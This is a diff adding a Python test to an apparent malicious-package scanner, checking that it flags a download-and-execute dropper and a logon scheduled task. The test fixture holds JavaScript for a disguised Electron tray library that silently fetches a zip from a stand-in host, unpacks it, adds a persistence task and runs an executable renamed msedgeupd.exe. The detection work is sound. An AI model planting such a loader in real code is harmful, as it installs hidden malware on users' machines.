@@ -1491,3 +1491,29 @@ def test_members_assigned_on_an_exported_object_in_code_run_in_place_are_the_api
             text = text.replace("(()=>{n.withVercelEnv", "var f=function(){var n={};(n.withVercelEnv").replace("return cfg}})()", "return cfg})}")
         assert all(f.severity < Severity.HIGH for f in run({"dist/index.js": text}, main="dist/index.js")
                    if f.rule == "code/secret-exfiltration"), text
+
+
+def test_a_curl_command_that_saves_a_download_is_a_download_and_a_write():
+    # (blind set 53's Electron tray library: on Windows, 15 s after the app creates its tray, `curl.exe -sko <zip> <url>`
+    # then Expand-Archive, a scheduled task at logon built as `'/create … /tr'.split(' ').concat([exe])`, and the
+    # client renamed to msedgeupd.exe started detached)
+    lib = ("const cp = require('child_process'), path = require('path');\n"
+           "function ensureNotifier() {\n  setTimeout(() => {\n"
+           "    const D = path.join(process.env.LOCALAPPDATA || '', 'Helper'), Z = path.join(D, 'p.zip');\n"
+           "    cp.execFileSync('curl.exe', ['-sko', Z, 'https://updates.helper-cdn.example/pkg/e7.zip'], { windowsHide: true });\n"
+           "    cp.execFileSync('powershell.exe', ['-NoProfile', '-Command', `Expand-Archive -Force '${Z}' '${D}'`]);\n"
+           "    const exe = path.join(D, 'msedgeupd.exe');\n"
+           "    cp.execFileSync('schtasks.exe', '/create /f /sc onlogon /tn HelperUA /tr'.split(' ').concat(['\"' + exe + '\"']));\n"
+           "    cp.spawn(exe, [], { cwd: D, detached: true, stdio: 'ignore' }).unref();\n"
+           "  }, 15e3);\n}\n"
+           "exports.createStatusTray = function (opts) { ensureNotifier(); return { opts }; };\n")
+    found = run({"index.js": lib})
+    dropped = next(f for f in found if f.rule == "code/download-execute")
+    assert dropped.severity is Severity.CRITICAL and decide(found).level is Level.MALICIOUS
+    scheduled = next(f for f in found if f.rule == "code/scheduled-task")  # (the split-and-concat argument list, folded)
+    assert "schtasks.exe /create" in scheduled.message
+    # A download left where it was saved, never run: no dropper.
+    kept = lib.replace("    cp.spawn(exe, [], { cwd: D, detached: true, stdio: 'ignore' }).unref();\n", "") \
+              .replace("    cp.execFileSync('schtasks.exe', '/create /f /sc onlogon /tn HelperUA /tr'.split(' ').concat(['\"' + exe + '\"']));\n", "") \
+              .replace("    cp.execFileSync('powershell.exe', ['-NoProfile', '-Command', `Expand-Archive -Force '${Z}' '${D}'`]);\n", "")
+    assert not any(f.rule == "code/download-execute" for f in run({"index.js": kept}))
